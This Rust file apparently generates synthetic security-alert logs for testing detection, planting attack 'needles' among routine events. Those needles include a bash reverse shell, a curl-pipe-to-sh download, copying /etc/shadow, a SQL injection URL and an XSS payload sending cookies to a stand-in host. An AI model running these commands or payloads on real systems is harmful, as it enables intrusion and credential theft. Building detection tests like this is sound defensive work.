//! Needles that the rules report as they report the hay: no request to look into, often no address, the same rule, level and words.
//!
//! What tells them apart is one field: the path of a file, a command line, the name of an operation; or that a machine among many has more
//! than the others.

use serde_json::json;

use super::Maker;

/// Programs and files of an update of packages, on a dozen machines, told by the rules for changed files. Among them three files that let
/// somebody in or run what he left.
pub(super) fn deployment(maker: &mut Maker, count: usize) {
    let span = count as u64 * 5;
    for number in 0..count as u64 - 3 {
        let folder = maker.chance.one_of(&["python3", "perl5", "php", "locale", "firmware"], "x");
        let ending = maker.chance.one_of(&["so", "py", "pm", "conf", "mo"], "so");
        let path = format!("/usr/lib/{folder}/unit{}.{ending}", maker.chance.below(90_000));
        let host = maker.chance.below(12);
        maker.file(number * 5, &path, ("root", "/usr/bin/dpkg"), host, None);
    }
    for (name, class, path, who) in [
        ("an account is added by hand", "file_integrity", "/etc/passwd", ("root", "/usr/bin/vi")),
        (
            "a key is left behind",
            "file_integrity",
            "/home/ops/.ssh/authorized_keys",
            ("root", "/usr/bin/dpkg"),
        ),
        (
            "a script under the web root",
            "file_integrity",
            "/var/www/html/media/thumb.php",
            ("www-data", "/usr/sbin/php-fpm"),
        ),
    ] {
        let needle = maker.needle(name, who.0, class);
        let (at, host) = (maker.amid(span), maker.chance.below(12));
        maker.file(at, path, who, host, Some(needle));
    }
}

/// Commands that a monitoring program and administrators run all day, as sudo and the audit log report them. Among them two users who
/// do what nobody there does, by the same rules.
pub(super) fn commands(maker: &mut Maker, count: usize) {
    let span = count as u64 * 400;
    for number in 0..count as u64 - 3 {
        let host = maker.chance.below(8);
        let user = maker.chance.one_of(&["nagios", "ansible", "k.berg", "m.ruiz"], "nagios");
        if maker.chance.below(2) == 0 {
            let command = maker.chance.one_of(
                &[
                    "/usr/bin/systemctl status nginx",
                    "/usr/sbin/smartctl -a /dev/sda",
                    "/usr/bin/df -h",
                ],
                "/usr/bin/df",
            );
            maker.sudo(number * 400, user, command, host, None);
        } else {
            let file = format!("/var/spool/job{}", maker.chance.below(300));
            maker.audited(number * 400, &["grep", "-c", "done", &file], host, None);
        }
    }
    let needle = maker.needle("a user reads stored passwords", "k.berg", "privilege_escalation");
    let at = maker.amid(span);
    maker.sudo(at, "k.berg", "/usr/bin/cp /etc/shadow /home/k.berg/s.txt", 3, Some(needle));
    let needle = maker.needle("a shell for another machine", "srv05", "command_execution");
    let at = maker.amid(span);
    let shell = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
    maker.audited(at, &["bash", "-c", shell], 5, Some(needle));
    let needle = maker.needle("a program from elsewhere", "srv01", "command_execution");
    let at = maker.amid(span);
    let fetched = "curl -s http://198.51.100.7/a | sh";
    maker.audited(at, &["sh", "-c", fetched], 1, Some(needle));
}

/// What a scan for flaws finds on ninety machines: thousands of packages, by rules of level 10 and 13. On one of them somebody
/// makes himself root.
pub(super) fn fleet(maker: &mut Maker, count: usize) {
    let span = count as u64 * 50;
    for number in 0..count as u64 - 1 {
        let host = maker.chance.below(90);
        let (rule, level, severity) = match maker.chance.below(3) {
            0 => ("23506", 13, "Critical"),
            1 => ("23505", 10, "High"),
            _ => ("23504", 7, "Medium"),
        };
        let package =
            maker.chance.one_of(&["openssl", "curl", "zlib1g", "vim", "perl", "expat"], "vim");
        let flaw =
            format!("CVE-{}-{}", 2016 + maker.chance.below(10), 1000 + maker.chance.below(40_000));
        let more = json!({
            "decoder": {"name": "json"},
            "location": "vulnerability-detector",
            "data": {"vulnerability": {"cve": flaw, "severity": severity, "package": {"name": package}}},
        });
        let described = format!("{flaw} affects {package}");
        let rule = (rule, level, described.as_str(), &["vulnerability-detector"][..]);
        let name = format!("srv{host:02}");
        maker.alert(number * 50, rule, (&format!("2{host:02}"), &name), more, None);
    }
    let needle = maker.needle("somebody makes himself root", "srv40", "account_change");
    let at = maker.amid(span);
    let more = json!({
        "full_log": "Nov 24 14:26:00 srv40 useradd[900]: new user: name=r00t, UID=0, GID=0, home=/root, shell=/bin/bash",
        "decoder": {"name": "useradd", "parent": "useradd"},
        "data": {"dstuser": "r00t", "uid": "0", "gid": "0"},
        "location": "/var/log/auth.log",
    });
    let rule = ("5902", 8, "A new user was added to the system.", &["syslog", "adduser"][..]);
    maker.alert(at, rule, ("240", "srv40"), more, Some(needle));
}

/// One address of a company, behind which are a scan, ordinary visitors, somebody who guesses passwords at the login page, and somebody
/// who injects.
pub(super) fn one_address(maker: &mut Maker, count: usize) {
    let source = "203.0.113.9";
    let span = count as u64 * 80;
    let guesses = (count as u64 / 10).max(20);
    for number in 0..count as u64 - guesses - 2 {
        let (path, client) = if maker.chance.below(5) == 0 {
            (format!("/static/img/{}.png", maker.chance.below(60)), "Mozilla/5.0")
        } else {
            (maker.guessed_path(), "gobuster/3.6")
        };
        maker.web_by(number * 80, source, &path, 404, client, None);
    }
    let needle = maker.needle("guesses at the login page", source, "brute_force");
    for number in 0..guesses {
        let at = number * span / guesses + maker.chance.below(500);
        maker.web_by(at, source, "/account/login", 401, "python-requests/2.31.0", Some(needle));
    }
    for (name, class, url) in [
        (
            "an injection",
            "sql_injection",
            "/list?cat=3%20UNION%20ALL%20SELECT%20NULL,login,pw%20FROM%20staff",
        ),
        (
            "a script",
            "xss",
            "/guests?msg=%3Csvg/onload=fetch('//198.51.100.3/'%2Bdocument.cookie)%3E",
        ),
    ] {
        let needle = maker.needle(&format!("{name} from the same address"), source, class);
        let at = maker.amid(span);
        maker.web(at, source, url, 200, Some(needle));
    }
}

impl Maker {
    /// Adds a change of a file.
    fn file(&mut self, at: u64, path: &str, by: (&str, &str), host: u64, needle: Option<usize>) {
        let name = format!("srv{host:02}");
        let more = json!({
            "full_log": format!("File '{path}' modified\nMode: whodata\n"),
            "syscheck": {"path": path, "mode": "whodata", "event": "modified", "uname_after": by.0,
                "audit": {"user": {"name": by.0}, "process": {"name": by.1}}},
            "decoder": {"name": "syscheck_integrity_changed"},
            "location": "syscheck",
        });
        let groups = &["ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"][..];
        let rule = ("550", 7, "The checksum of a file changed.", groups);
        self.alert(at, rule, (&format!("3{host:02}"), &name), more, needle);
    }

    /// Adds a command by sudo.
    fn sudo(&mut self, at: u64, user: &str, command: &str, host: u64, needle: Option<usize>) {
        let name = format!("srv{host:02}");
        let more = json!({
            "full_log": format!("Nov 24 14:26:00 {name} sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}"),
            "decoder": {"name": "sudo", "parent": "sudo"},
            "data": {"srcuser": user, "dstuser": "root", "pwd": format!("/home/{user}"), "command": command},
            "location": "/var/log/auth.log",
        });
        let rule = ("5402", 3, "A command was run as root.", &["syslog", "sudo"][..]);
        self.alert(at, rule, (&format!("4{host:02}"), &name), more, needle);
    }

    /// Adds a command that the audit log tells of, its arguments as the kernel writes them.
    fn audited(&mut self, at: u64, words: &[&str], host: u64, needle: Option<usize>) {
        let name = format!("srv{host:02}");
        let program = words.first().copied().unwrap_or_default();
        let arguments: serde_json::Map<String, serde_json::Value> = words
            .iter()
            .enumerate()
            .map(|(number, word)| (format!("a{number}"), json!(written(word).0)))
            .collect();
        let told: Vec<String> = words
            .iter()
            .enumerate()
            .map(|(at, word)| format!("a{at}={}", written(word).1))
            .collect();
        let number = self.chance.below(90_000);
        let more = json!({
            "full_log": format!("type=SYSCALL msg=audit(1795530360.1:{number}): syscall=59 success=yes auid=4294967295 comm=\"{program}\" exe=\"/usr/bin/{program}\" key=\"commands\" type=EXECVE argc={} {}", words.len(), told.join(" ")),
            "decoder": {"name": "auditd", "parent": "auditd"},
            "data": {"audit": {"type": "SYSCALL", "auid": "4294967295", "exe": format!("/usr/bin/{program}"), "execve": arguments}},
            "location": "/var/log/audit/audit.log",
        });
        let described = format!("The audit log tells of a command: {program}.");
        let rule = ("80792", 3, described.as_str(), &["audit", "audit_command"][..]);
        self.alert(at, rule, (&format!("4{host:02}"), &name), more, needle);
    }
}

/// Writes an argument as the kernel does, without and with its quotes: one with a blank, a quote or a control character is bare
/// hexadecimal digits.
fn written(word: &str) -> (String, String) {
    let is_plain = word.bytes().all(|byte| byte.is_ascii_graphic() && byte != b'"');
    if is_plain {
        return (word.to_owned(), format!("\"{word}\""));
    }
    let digits: String = word.bytes().map(|byte| format!("{byte:02X}")).collect();
    (digits.clone(), digits)
}
